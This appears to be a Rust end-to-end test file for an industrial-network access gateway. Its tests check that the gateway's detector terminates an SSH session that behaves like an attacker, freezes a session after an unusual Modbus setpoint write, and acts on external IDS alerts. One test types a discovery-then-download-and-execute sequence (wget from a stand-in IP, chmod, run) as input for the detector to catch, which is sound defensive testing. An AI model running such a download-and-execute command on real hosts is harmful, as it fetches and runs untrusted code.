//! The detector live, with real peers: an OpenSSH vendor session typing what attackers type
//! is terminated and its grant revoked; a Modbus write far outside what a PLC's profile
//! learnt (pymodbus PLC and client over `ssh -L`) is flagged and the session frozen; an
//! external alert about an asset freezes its live SSH session; each response is an alert
//! with its findings in words, written into the session's recording, which still verifies.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{
    AssetSshd, Demo, ModbusPlc, Session, free_port, grant, live_session, modbus_client,
    peer_available, python_module, ssh_via_gateway, wait_for_port,
};

/// Kills the child on drop.
struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Polls `check` for up to 60 s (the e2e tests share two cores with Chromium).
fn eventually<T>(what: &str, mut check: impl FnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(found) = check() {
            return found;
        }
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The event log as JSON values.
fn events(auditor: &Session<'_>) -> Vec<Value> {
    auditor
        .ok(&["events", "--format", "json"])
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// Waits until the recording of `session` is sealed and indexed, then checks it verifies
/// and holds the detector's alert.
fn verified_with_alert(demo: &Demo, auditor: &Session<'_>, session: &str) {
    let key = demo.file["recording_public_key"]
        .as_str()
        .unwrap()
        .to_owned();
    eventually("the recording to verify", || {
        let out = auditor.run(&["audit", "verify", session, "--key", &key], None);
        out.status.success().then_some(())
    });
    let indexed = eventually("the recording to be indexed with its alert", || {
        let shown = auditor.json(&["sessions", "show", session]);
        (shown["state"] == "ended" && shown["alerts"].as_i64().unwrap_or(0) >= 1).then_some(shown)
    });
    assert_eq!(indexed["verification"], "ok", "{indexed}");
}

/// The demo with a real sshd registered as `lab-ws` (level 3) and vendor1 holding an
/// approved maintenance grant on it: the demo, the asset, the grant id, the vendor's key and
/// certificate, and the gateway's address.
struct LabWs {
    demo: Demo,
    _asset: AssetSshd,
    grant: String,
    key: PathBuf,
    certificate: PathBuf,
    gateway: String,
}

impl LabWs {
    fn start() -> Self {
        let demo = Demo::start();
        let gateway = demo.file["ssh"].as_str().unwrap().to_owned();
        let asset = AssetSshd::start();
        for name in ["admin", "eng1", "vendor1", "auditor", "ids"] {
            demo.cli(name).login();
        }
        asset.register(&demo, &demo.cli("admin"), "lab-ws", &[]);
        let key = PathBuf::from(demo.user("vendor1")["ssh_key"].as_str().unwrap());
        let certificate = PathBuf::from(format!("{}-cert.pub", key.display()));
        let grant = grant(
            &demo.cli("vendor1"),
            &demo.cli("eng1"),
            "lab-ws",
            &["ssh"],
            "maintenance",
            "1h",
            &key,
        );
        Self {
            demo,
            _asset: asset,
            grant,
            key,
            certificate,
            gateway,
        }
    }

    /// The vendor's OpenSSH shell on lab-ws through the gateway, with a pty.
    fn shell(&self) -> Killed {
        Killed(
            ssh_via_gateway(
                &self.gateway,
                "vendor1+lab-ws",
                &self.key,
                &self.certificate,
            )
            .arg("-tt")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
        )
    }
}

#[test]
fn a_session_typing_what_attackers_type_is_terminated_and_its_grant_revoked() {
    if !peer_available("ssh") || !peer_available(crate::support::SSHD) {
        return;
    }
    let lab = LabWs::start();
    let (demo, id) = (&lab.demo, lab.grant.clone());
    let (eng1, vendor, auditor) = (demo.cli("eng1"), demo.cli("vendor1"), demo.cli("auditor"));
    // A shell through a pty: first what a vendor does, then discovery, download and run.
    let mut shell = lab.shell();
    let started = Instant::now();
    {
        let mut stdin = shell.0.stdin.take().unwrap();
        stdin
            .write_all(
                b"ls /tmp > /dev/null\nuname -a; cat /proc/cpuinfo | grep name | head -n 1; free -m\n\
                  cd /tmp && wget -q -T 1 http://203.0.113.9/x -O .x; chmod +x .x; ./.x\nsleep 60\n",
            )
            .unwrap();
        // Held open: the session must end because of the detector, not because input ran out.
        std::mem::forget(stdin);
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    while shell.0.try_wait().unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "the attacker-like session was not ended"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(started.elapsed() < Duration::from_secs(30));
    let mut stderr = String::new();
    std::io::Read::read_to_string(shell.0.stderr.as_mut().unwrap(), &mut stderr).unwrap();
    let mut stdout = String::new();
    std::io::Read::read_to_string(shell.0.stdout.as_mut().unwrap(), &mut stdout).unwrap();
    let said = format!("{stdout}{stderr}");
    assert!(
        said.contains("detector"),
        "the vendor was not told why: {said}"
    );

    // The grant is revoked, by no one but the detector, with the findings as the reason.
    let request = vendor.json(&["request", "show", &id]);
    assert_eq!(request["status"], "revoked", "{request}");
    let log = events(&auditor);
    let revoked = log
        .iter()
        .find(|e| e["type"] == "grant_revoked" && e["grant"].as_i64() == id.parse().ok())
        .expect("grant_revoked");
    assert!(revoked.get("actor").is_none(), "{revoked}");
    assert!(
        revoked["reason"].as_str().unwrap().contains("detector"),
        "{revoked}"
    );

    // The alert explains itself and names the session.
    let alerts = eng1.json(&["alerts", "list", "--asset", "lab-ws"]);
    let alert = alerts
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["response"] == "terminate" || a["response"] == "quarantine")
        .unwrap_or_else(|| panic!("no terminating alert: {alerts}"));
    let findings = alert["findings"].to_string();
    assert!(findings.contains("download then execute"), "{findings}");
    assert!(alert["score"].as_u64().unwrap() >= 95, "{alert}");
    let session = alert["sessions"][0].as_str().unwrap().to_owned();
    assert!(
        log.iter()
            .any(|e| e["type"] == "alert_raised" && e["sessions"][0] == session.as_str())
    );

    // Recorded and verifiable, the alert in the session's own log.
    verified_with_alert(demo, &auditor, &session);
}

#[test]
fn a_modbus_write_outside_the_learnt_profile_is_flagged_and_the_session_frozen() {
    if !peer_available("ssh") || !python_module("pymodbus") {
        return;
    }
    let demo = Demo::start();
    let gateway = demo.file["ssh"].as_str().unwrap().to_owned();
    let plc = ModbusPlc::start();
    let admin = demo.cli("admin");
    let eng1 = demo.cli("eng1");
    let vendor = demo.cli("vendor1");
    let auditor = demo.cli("auditor");
    for session in [&admin, &eng1, &vendor, &auditor] {
        session.login();
    }
    let key = PathBuf::from(demo.user("vendor1")["ssh_key"].as_str().unwrap());
    let certificate = PathBuf::from(format!("{}-cert.pub", key.display()));
    crate::modbus::setpoint_grant(&demo, &admin, &eng1, &vendor, plc.port, &key);
    let local = free_port();
    let _tunnel = Killed(
        ssh_via_gateway(&gateway, "vendor1+plc-lab", &key, &certificate)
            .args(["-N", "-o", "ExitOnForwardFailure=yes", "-L"])
            .arg(format!("{local}:127.0.0.1:{}", plc.port))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    wait_for_port(local, "the ssh -L tunnel");

    // Normal operation the profile learns: setpoints 100-219 on holding 100-109, and reads.
    let mut ops = Vec::new();
    for i in 0..120u16 {
        ops.push(json!(["write", 100 + i % 10, 100 + i]));
        ops.push(json!(["read", 100, 10]));
    }
    let results = modbus_client(local, 1, Value::Array(ops));
    assert!(
        results.iter().all(|r| r.get("error").is_none()),
        "{results:?}"
    );
    // The connection closed: its session ended and was learnt. Nothing was flagged.
    eventually("the training session to end", || {
        let alerts = eng1.json(&["alerts", "list", "--asset", "plc-lab"]);
        let live = eng1.json(&["sessions", "list", "--live"]);
        let none_live = !live
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["asset"] == "plc-lab");
        assert!(
            alerts.as_array().unwrap().is_empty(),
            "normal traffic was flagged: {alerts}"
        );
        none_live.then_some(())
    });

    // A setpoint the scope allows (0-500) but far outside what this PLC ever got.
    let results = modbus_client(local, 1, json!([["write", 105, 480]]));
    assert!(
        results.iter().all(|r| r.get("error").is_none()),
        "{results:?}"
    );
    let alert = eventually("the alert", || {
        let alerts = eng1.json(&["alerts", "list", "--asset", "plc-lab"]);
        alerts.as_array().unwrap().first().cloned()
    });
    let findings = alert["findings"].to_string();
    assert!(
        findings
            .contains("value 480 for holding 105 on plc-lab is outside the values seen (105-215)"),
        "{findings}"
    );
    assert_eq!(alert["response"], "freeze", "{alert}");
    let session = alert["sessions"][0].as_str().unwrap().to_owned();
    let log = events(&auditor);
    assert!(
        log.iter().any(|e| e["type"] == "session_freeze_requested"
            && e["session"] == session.as_str()
            && e.get("actor").is_none()),
        "no freeze by the detector"
    );
    verified_with_alert(&demo, &auditor, &session);
}

#[test]
fn an_external_alert_freezes_the_live_session_of_its_asset() {
    if !peer_available("ssh") || !peer_available(crate::support::SSHD) {
        return;
    }
    let lab = LabWs::start();
    let demo = &lab.demo;
    let (eng1, vendor, auditor, ids) = (
        demo.cli("eng1"),
        demo.cli("vendor1"),
        demo.cli("auditor"),
        demo.cli("ids"),
    );
    let mut shell = lab.shell();
    let mut stdin = shell.0.stdin.take().unwrap();
    stdin.write_all(b"echo before-alert\n").unwrap();
    let session = live_session(&eng1, "lab-ws");

    // Garbage and unknown assets are refused with what to fix; nothing is stored.
    let garbage = demo.dir.path().join("garbage.json");
    std::fs::write(&garbage, r#"{"event_type": "flow", "src_ip": "10.0.0.1"}"#).unwrap();
    ids.refused(
        &["alerts", "report", garbage.to_str().unwrap()],
        "send `alert` records",
    );
    let unknown = demo.dir.path().join("unknown.json");
    std::fs::write(
        &unknown,
        json!({"event_type": "alert", "src_ip": "10.99.0.1", "dest_ip": "10.99.0.2",
               "alert": {"signature": "ET SCAN", "severity": 2}})
        .to_string(),
    )
    .unwrap();
    ids.refused(
        &["alerts", "report", unknown.to_str().unwrap()],
        "no asset in the inventory",
    );
    // A vendor may not report alerts.
    vendor.refused(
        &["alerts", "report", garbage.to_str().unwrap()],
        "sensor role",
    );

    // A high-severity IDS alert about lab-ws (level 3: freeze at 80).
    let report = demo.dir.path().join("edr.json");
    std::fs::write(
        &report,
        json!({"source": "edr", "severity": "high", "asset": "lab-ws",
               "title": "credential dumping tool started on lab-ws", "details": {"pid": 4242}})
        .to_string(),
    )
    .unwrap();
    let alert = ids.json(&["alerts", "report", report.to_str().unwrap()]);
    assert_eq!(alert["sessions"], json!([session]), "{alert}");
    assert_eq!(alert["response"], "freeze", "{alert}");
    eventually("the freeze", || {
        events(&auditor)
            .iter()
            .any(|e| e["type"] == "session_freeze_requested" && e["session"] == session.as_str())
            .then_some(())
    });
    eng1.ok(&["sessions", "resume", &session]);
    stdin.write_all(b"exit\n").unwrap();
    drop(stdin);
    let out = std::mem::replace(&mut shell.0, Command::new("true").spawn().unwrap())
        .wait_with_output()
        .unwrap();
    let screen = String::from_utf8_lossy(&out.stdout);
    let notices = String::from_utf8_lossy(&out.stderr);
    assert!(screen.contains("before-alert"), "{screen}");
    // The vendor is told why, on the terminal's error stream.
    assert!(notices.contains("external alert on lab-ws"), "{notices}");

    // The alert is listed with the session, and the recording verifies with it inside.
    let listed = eng1.json(&["alerts", "list", "--session", &session]);
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");
    verified_with_alert(demo, &auditor, &session);
    let replay = auditor.ok(&["replay", &session, "--speed", "1000", "--idle-cap", "0.01"]);
    assert!(replay.contains("ALERT risk 80"), "{replay}");
    assert!(replay.contains("FROZEN by otgate"), "{replay}");
}
